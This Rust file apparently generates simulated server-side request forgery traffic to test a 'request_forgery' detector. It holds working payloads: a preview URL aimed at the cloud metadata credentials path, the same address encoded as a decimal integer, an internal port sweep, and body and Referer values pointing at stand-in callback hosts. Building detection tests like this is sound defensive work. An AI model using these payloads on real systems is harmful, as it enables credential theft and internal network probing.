//! Requests that make the host reach what they name.

use serde_json::json;

use super::{Marks, Variant};
use crate::scenarios::agents;
use crate::scenarios::calendar::{MILLI, MINUTE};
use crate::scenarios::chance::Chance;
use crate::scenarios::http::Request;
use crate::scenarios::places;
use crate::scenarios::service;
use crate::scenarios::wire::outbound::{Outbound, What};
use crate::scenarios::wire::tls::OPENSSL;
use crate::scenarios::world::{Caller, World, address};

pub(super) const VARIANTS: [Variant; 5] = [
    Variant {
        name: "metadata-named",
        what: "a preview of http://169.254.169.254/ is asked for, and made",
        detectors: &["request_forgery"],
        may: &["unknown_destination"],
        worlds: &[],
        hours: 1,
        act: metadata,
    },
    Variant {
        name: "metadata-encoded",
        what: "the same address as one number, percent-encoded",
        detectors: &["request_forgery"],
        may: &["unknown_destination"],
        worlds: &[],
        hours: 1,
        act: encoded,
    },
    Variant {
        name: "inside-port-scan",
        what: "eight previews of addresses and ports inside, most of which nobody answers",
        detectors: &["request_forgery"],
        may: &["unknown_destination"],
        worlds: &[],
        hours: 1,
        act: inside,
    },
    Variant {
        name: "body-names-host",
        what: "the body of a request names a picture on a host nobody knows, and the host goes there",
        detectors: &["request_forgery"],
        may: &["unknown_destination"],
        worlds: &[],
        hours: 1,
        act: body,
    },
    Variant {
        name: "header-names-host",
        what: "a Referer names a host nobody knows, and an analytics program goes there",
        detectors: &["request_forgery"],
        may: &["unknown_destination"],
        worlds: &[],
        hours: 1,
        act: header,
    },
];

fn attacker(world: &mut World, chance: &mut Chance) -> Caller {
    world.caller(places::named("home-tr").v4(chance.below(60_000)), &agents::library(3))
}

/// A preview is asked for, the host goes there while it is in flight, and answers.
fn preview(world: &mut World, at: u64, url: &str, what: What, chance: &mut Chance) {
    let caller = attacker(world, chance);
    let request = Request::get(format!("{}?url={url}", service::PREVIEW.path));
    world.ask(&caller, at, service::PREVIEW, request, chance);
    world.outbound.push(Outbound {
        at: at + 6 * MILLI,
        what,
    });
}

fn marks(destinations: &[&str]) -> Marks {
    Marks {
        endpoints: vec![
            service::PREVIEW.endpoint(),
            service::AVATAR.endpoint(),
            service::PRODUCT.endpoint(),
        ],
        destinations: destinations.iter().map(|&name| name.to_owned()).collect(),
        ..Marks::default()
    }
}

fn credentials() -> What {
    What::Http {
        to: (address("169.254.169.254"), 80).into(),
        request: "GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\nUser-Agent: \
                  preview/1.0\r\nAccept: */*\r\n\r\n"
            .to_owned(),
        response: "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 13\r\n\r\nshop-api-role".to_owned(),
    }
}

fn metadata(world: &mut World, at: u64, chance: &mut Chance) -> Marks {
    let url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
    preview(world, at, url, credentials(), chance);
    marks(&["169.254.169.254"])
}

fn encoded(world: &mut World, at: u64, chance: &mut Chance) -> Marks {
    preview(
        world,
        at,
        "http%3A%2F%2F2852039166%2Flatest%2Fmeta-data%2F",
        credentials(),
        chance,
    );
    marks(&["169.254.169.254"])
}

fn inside(world: &mut World, mut at: u64, chance: &mut Chance) -> Marks {
    for port in [22, 80, 443, 2375, 3306, 6379, 8500, 9200] {
        let to = (address("10.0.3.7"), port).into();
        let what = if port == 6379 {
            What::Other {
                to,
                begin: b"GET / HTTP/1.1\r\nHost: 10.0.3.7:6379\r\n\r\n",
                down: 60,
            }
        } else {
            What::Refused { to }
        };
        preview(world, at, &format!("http://10.0.3.7:{port}/"), what, chance);
        at += MINUTE / 4 + chance.below(MINUTE / 2);
    }
    marks(&["10.0.3.7"])
}

fn body(world: &mut World, at: u64, chance: &mut Chance) -> Marks {
    let name = "drop.collect-0.example";
    let caller = attacker(world, chance);
    let url = format!("https://{name}/x.png?c={}", chance.hex(8));
    world.ask(
        &caller,
        at,
        service::AVATAR,
        Request::post(service::AVATAR.path, &json!({ "url": url })),
        chance,
    );
    fetch(world, at + 8 * MILLI, name, chance);
    marks(&[name])
}

fn header(world: &mut World, at: u64, chance: &mut Chance) -> Marks {
    let name = "cb.interact-9.example";
    let caller = attacker(world, chance);
    let request = Request::get(service::PRODUCT.at(17)).with("Referer", format!("http://{name}/landing"));
    world.ask(&caller, at, service::PRODUCT, request, chance);
    fetch(world, at + 15 * MILLI, name, chance);
    marks(&[name])
}

fn fetch(world: &mut World, at: u64, name: &str, chance: &mut Chance) {
    let to = places::named("hosting-nl").v4(55_000 + chance.below(900));
    let what = What::Tls {
        to: (to, 443).into(),
        name: name.to_owned(),
        stack: OPENSSL,
        up: 600,
        down: 900,
    };
    world.reach(at, name, &[to], what);
}
